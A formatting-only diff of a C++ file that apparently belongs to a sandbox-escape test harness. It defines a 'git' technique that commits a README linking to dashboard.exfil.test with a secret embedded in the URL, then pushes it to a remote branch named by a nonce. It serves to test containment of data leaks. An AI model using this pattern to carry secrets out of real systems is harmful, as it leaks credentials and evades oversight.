@@ -1,5 +1,5 @@
-// The git technique: a real git in the bottle commits a README and pushes it. The push is one of a new branch, whose name
-// is the nonce, so that the rejected ones and the clean ones can be told apart wherever they arrive.
+// The git technique: a real git in the bottle commits a README and pushes it. The push is one of a new branch, whose
+// name is the nonce, so that the rejected ones and the clean ones can be told apart wherever they arrive.
 #include "attacks/carrier.h"
 #include "harness/digest.h"
 
@@ -8,7 +8,8 @@ namespace {
 
 std::string readme(const std::string& nonce, const std::string& secret) {
   const std::string query = secret.empty() ? "" : "?key=" + to_percent_reserved(secret);
-  return "# Notes\n\nHow this works is described on [the dashboard](https://dashboard.exfil.test/" + nonce + query + ").\n";
+  return "# Notes\n\nHow this works is described on [the dashboard](https://dashboard.exfil.test/" + nonce + query +
+         ").\n";
 }
 
 Attempt build(const Choice& choice, const Brief& brief) {
@@ -19,18 +20,22 @@ Attempt build(const Choice& choice, const Brief& brief) {
   }
   const std::string secret = carried_secret(choice, brief);
   using Argv = std::vector<std::string>;
-  const std::vector<Argv> steps = {
-      {"git", "init", "-q", "-b", brief.nonce, "."},
-      {"git", "add", "README.md"},
-      {"git", "commit", "-q", "-m", "Notes"},
-      {"git", "push", brief.route.git_remote, "HEAD:refs/heads/" + brief.nonce}};
+  const std::vector<Argv> steps = {{"git", "init", "-q", "-b", brief.nonce, "."},
+                                   {"git", "add", "README.md"},
+                                   {"git", "commit", "-q", "-m", "Notes"},
+                                   {"git", "push", brief.route.git_remote, "HEAD:refs/heads/" + brief.nonce}};
   attempt.action = {{"action", "client"},
                     {"files", {{"README.md", to_base64(readme(brief.nonce, secret))}}},
                     {"steps", steps},
                     {"environment",
-                     {{"HOME", "{dir}"}, {"GIT_CONFIG_NOSYSTEM", "1"}, {"GIT_CONFIG_GLOBAL", "/dev/null"},
-                      {"GIT_TERMINAL_PROMPT", "0"}, {"GIT_AUTHOR_NAME", "agent"}, {"GIT_COMMITTER_NAME", "agent"},
-                      {"GIT_AUTHOR_EMAIL", "agent@bottle.test"}, {"GIT_COMMITTER_EMAIL", "agent@bottle.test"}}},
+                     {{"HOME", "{dir}"},
+                      {"GIT_CONFIG_NOSYSTEM", "1"},
+                      {"GIT_CONFIG_GLOBAL", "/dev/null"},
+                      {"GIT_TERMINAL_PROMPT", "0"},
+                      {"GIT_AUTHOR_NAME", "agent"},
+                      {"GIT_COMMITTER_NAME", "agent"},
+                      {"GIT_AUTHOR_EMAIL", "agent@bottle.test"},
+                      {"GIT_COMMITTER_EMAIL", "agent@bottle.test"}}},
                     {"timeout_ms", 8000}};
   for (const Argv& argv : steps) {
     std::string joined;
@@ -51,7 +56,9 @@ Attempt build(const Choice& choice, const Brief& brief) {
 }  // namespace
 
 Technique make_technique_git() {
-  return {.name = "git", .parameters = {{"vector", {"readme-link"}}, {"secret", kSecretKinds}, {"encoding", kEncodings}}, .build = build};
+  return {.name = "git",
+          .parameters = {{"vector", {"readme-link"}}, {"secret", kSecretKinds}, {"encoding", kEncodings}},
+          .build = build};
 }
 
 }  // namespace bottle
